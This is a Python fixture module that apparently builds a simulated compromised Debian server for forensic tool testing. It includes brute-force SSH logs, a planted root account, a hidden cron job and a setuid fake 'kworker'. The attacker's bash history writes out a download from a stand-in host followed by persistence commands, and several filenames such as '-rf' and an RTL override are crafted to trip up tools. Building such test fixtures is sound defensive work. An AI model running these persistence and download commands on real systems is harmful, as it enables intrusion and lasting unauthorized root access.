"""What happened on the server, file by file. Addresses are those of RFC 5737, names invented."""

import struct
from datetime import UTC, datetime, timedelta

_START = datetime(2026, 3, 14, 2, 11, 7, tzinfo=UTC)
ATTACKER = "203.0.113.77"
MARKER = b"backdoor: setuid(0); execl(/bin/bash)"


def epoch() -> int:
    """Give the moment of the break-in in seconds since the epoch."""
    return int(_START.timestamp())


def _stamp(seconds: int) -> str:
    return (_START + timedelta(seconds=seconds)).strftime("%b %d %H:%M:%S")


def _auth_log() -> str:
    users = ["root", "admin", "test", "oracle", "git", "backup", "alice", "postgres"]
    lines = []
    for attempt in range(240):
        user = users[attempt % len(users)]
        invalid = "" if user in ("root", "alice", "backup") else "invalid user "
        lines.append(
            f"{_stamp(attempt * 3)} web01 sshd[{2000 + attempt}]: Failed password for "
            f"{invalid}{user} from {ATTACKER} port {40000 + attempt} ssh2"
        )
    end = 240 * 3
    lines += [
        f"{_stamp(end)} web01 sshd[2301]: Accepted password for backup from {ATTACKER} "
        "port 40411 ssh2",
        f"{_stamp(end + 1)} web01 sshd[2301]: pam_unix(sshd:session): session opened for user "
        "backup(uid=1001)",
        f"{_stamp(end + 95)} web01 sudo:   backup : TTY=pts/0 ; PWD=/home/backup ; USER=root ; "
        "COMMAND=/usr/bin/install -m 4755 .x /usr/lib/.cache/kworker",
        f"{_stamp(end + 180)} web01 sshd[2301]: pam_unix(sshd:session): session closed for user "
        "backup",
    ]
    return "\n".join(lines) + "\n"


def _syslog() -> str:
    services = [
        "systemd[1]: Started Daily apt activities.",
        "nginx[612]: 200 GET /index.html",
        "cron[401]: (root) CMD (test -x /usr/sbin/anacron)",
    ]
    lines = [f"{_stamp(i * 60)} web01 {services[i % 3]}" for i in range(600)]
    lines.append(f"{_stamp(36000)} web01 CRON[9121]: (root) CMD (/usr/lib/.cache/kworker -q)")
    return "\n".join(lines) + "\n"


_PACKAGES = (
    ("base-files", "12.4+deb12u11", "341", "Debian base system miscellaneous files"),
    ("bash", "5.2.15-2+b7", "7165", "GNU Bourne Again SHell"),
    ("coreutils", "9.1-1", "18062", "GNU core utilities"),
    ("cron", "3.0pl1-162", "272", "process scheduling daemon"),
    ("dpkg", "1.21.22", "6513", "Debian package management system"),
    ("libc6", "2.36-9+deb12u10", "12988", "GNU C Library: Shared libraries"),
    ("nginx-core", "1.22.1-9", "1502", "nginx web/proxy server (standard version)"),
    ("openssh-client", "1:9.2p1-2+deb12u5", "5939", "secure shell (SSH) client"),
    ("openssh-server", "1:9.2p1-2+deb12u5", "1891", "secure shell (SSH) server"),
    ("rsyslog", "8.2302.0-1", "1987", "reliable system and kernel logging daemon"),
    ("sudo", "1.9.13p3-1+deb12u1", "6257", "Provide limited super user privileges"),
    ("systemd", "252.36-1~deb12u1", "9830", "system and service manager"),
)


def _dpkg_status() -> str:
    stanzas = [
        f"Package: {name}\nStatus: install ok installed\nPriority: optional\nSection: admin\n"
        f"Installed-Size: {kib}\nMaintainer: Debian\nArchitecture: amd64\nVersion: {version}\n"
        f"Description: {summary}\n A longer description stands here.\n"
        for name, version, kib, summary in _PACKAGES
    ]
    stanzas.append(
        "Package: telnetd\nStatus: deinstall ok config-files\nArchitecture: amd64\n"
        "Version: 0.17-44\nDescription: removed long ago\n"
    )
    return "\n".join(stanzas)


def program(text: bytes = b"") -> bytes:
    """Give a file that is an x86-64 ELF program in every respect but doing anything, elf(5)."""
    identity = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    header = struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0x1000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return identity + header + bytes(64) + text + bytes(256)


_PASSWD = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
sshd:x:101:65534::/run/sshd:/usr/sbin/nologin
alice:x:1000:1000:Alice Example,,,:/home/alice:/bin/bash
backup:x:1001:1001:Backup job:/home/backup:/bin/bash
sysupd:x:0:0::/tmp:/bin/bash
"""

_SHADOW = """root:!:20100:0:99999:7:::
daemon:*:20100:0:99999:7:::
www-data:*:20100:0:99999:7:::
sshd:!:20100::::::
alice:$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7:20100:0:99999:7:::
backup:$6$rounds=1000$abcdefgh$Ui1.notarealhash.notarealhash.notarealhash:20100:0:99999:7:::
sysupd::20526:0:99999:7:::
"""

_GROUP = """root:x:0:
daemon:x:1:
sudo:x:27:alice,backup
www-data:x:33:
alice:x:1000:
backup:x:1001:
nogroup:x:65534:
"""

TEXTS: dict[str, str] = {
    "/etc/debian_version": "12.11\n",
    "/usr/lib/os-release": (
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nNAME="Debian GNU/Linux"\n'
        'VERSION_ID="12"\nVERSION="12 (bookworm)"\nVERSION_CODENAME=bookworm\nID=debian\n'
        'HOME_URL="https://www.debian.org/"\n'
    ),
    "/etc/hostname": "web01\n",
    "/etc/hosts": "127.0.0.1\tlocalhost\n192.0.2.10\tweb01.example.org web01\n",
    "/etc/fstab": (
        "# <file system> <mount point> <type> <options> <dump> <pass>\n"
        "UUID=5ca1ab1e-0000-4000-8000-00000000d15c / ext4 errors=remount-ro 0 1\n"
        "tmpfs /tmp tmpfs nosuid,nodev 0 0\n"
    ),
    "/etc/passwd": _PASSWD,
    "/etc/shadow": _SHADOW,
    "/etc/group": _GROUP,
    "/etc/timezone": "Europe/Berlin\n",
    "/etc/issue": "Debian GNU/Linux 12 \\n \\l\n",
    "/etc/ssh/sshd_config": (
        "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nX11Forwarding no\n"
    ),
    "/etc/ssh/ssh_host_ed25519_key.pub": (
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdemodemodemodemodemodemodemode root@web01\n"
    ),
    "/etc/cron.d/e2scrub_all": "30 3 * * 0 root test -e /run/systemd/system || e2scrub_all\n",
    "/etc/cron.d/.sysupdate": "*/5 * * * * root /usr/lib/.cache/kworker -q >/dev/null 2>&1\n",
    "/etc/nginx/nginx.conf": "user www-data;\nworker_processes auto;\n",
    "/etc/systemd/system/multi-user.target.wants/.keep": "",
    "/var/lib/dpkg/status": _dpkg_status(),
    "/var/log/auth.log": _auth_log(),
    "/var/log/syslog": _syslog(),
    "/var/www/html/index.html": "<!doctype html>\n<title>web01</title>\n<h1>It works</h1>\n",
    "/root/.bash_history": "apt update\napt upgrade\nsystemctl restart nginx\n",
    "/root/.ssh/authorized_keys": (
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAalicealicealicealicealice alice@laptop\n"
        "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDnotfromhere root@kali\n"
    ),
    "/home/alice/.bash_history": "ls\nvim notes.txt\nssh web02\nexit\n",
    "/home/alice/.bashrc": "alias ll='ls -l'\n",
    "/home/alice/notes.txt": "Ask Bob about the disk that grows at night.\n",
    "/home/backup/.bash_history": (
        "id\nuname -a\nsudo -l\nwget http://203.0.113.77/x -O .x\n"
        "sudo install -m 4755 .x /usr/lib/.cache/kworker\n"
        "echo '*/5 * * * * root /usr/lib/.cache/kworker -q' | sudo tee /etc/cron.d/.sysupdate\n"
        "sudo useradd -o -u 0 -g 0 -d /tmp -s /bin/bash sysupd\nhistory -c\n"
    ),
    "/srv/names/with space.txt": "a name with a space\n",
    "/srv/names/it's quoted.txt": "a name with an apostrophe\n",
    '/srv/names/say "hi".txt': "a name with double quotes\n",
    "/srv/names/two\nlines": "a name with a newline\n",
    "/srv/names/\x1b[31mred\x1b[0m": "a name with an escape sequence\n",
    "/srv/names/caf\udce9": "a name in Latin-1, which is no UTF-8\n",
    "/srv/names/-rf": "a name like an option\n",
    "/srv/names/日本語.txt": "a name in Japanese\n",
    "/srv/names/\u202egnp.exe": "a name with a right-to-left override\n",
    "/srv/names/[bold]": "a name like markup\n",
}

PROGRAMS: dict[str, tuple[bytes, int]] = {
    "/usr/bin/bash": (program(b"GNU bash, version 5.2.15"), 0o755),
    "/usr/bin/ls": (program(b"ls (GNU coreutils) 9.1"), 0o755),
    "/usr/bin/sudo": (program(b"sudo 1.9.13p3"), 0o4755),
    "/usr/lib/systemd/systemd": (program(b"systemd 252"), 0o755),
    "/usr/lib/.cache/kworker": (program(MARKER), 0o4755),
    "/boot/vmlinuz-6.1.0-37-amd64": (b"\0" * 510 + b"\x55\xaaHdrS" + bytes(512), 0o644),
}

LINKS = {
    "/bin": "usr/bin",
    "/sbin": "usr/sbin",
    "/lib": "usr/lib",
    "/usr/sbin/init": "/lib/systemd/systemd",
    "/etc/os-release": "../usr/lib/os-release",
    "/etc/localtime": "/usr/share/zoneinfo/Europe/Berlin",
    "/usr/bin/sh": "bash",
    "/srv/absolute": "/etc/hostname",
    "/srv/loop": "loop",
}

DIRECTORIES = ("/dev", "/proc", "/sys", "/run", "/tmp", "/mnt", "/usr/sbin", "/var/spool/cron")

MANY = "/var/cache/sessions"
MANY_COUNT = 10_000
SPARSE = ("/var/log/huge.log", 2 * 2**30, b"\nthe last line of a sparse log\n")

MODES = {"/etc/shadow": 0o640, "/root": 0o700, "/root/.ssh": 0o700, "/tmp": 0o1777}
OWNERS = {
    "/home/alice": (1000, 1000),
    "/home/alice/.bash_history": (1000, 1000),
    "/home/alice/.bashrc": (1000, 1000),
    "/home/alice/notes.txt": (1000, 1000),
    "/home/backup": (1001, 1001),
    "/home/backup/.bash_history": (1001, 1001),
    "/var/www/html/index.html": (33, 33),
}
SELINUX = {"/etc/shadow": "system_u:object_r:shadow_t:s0"}
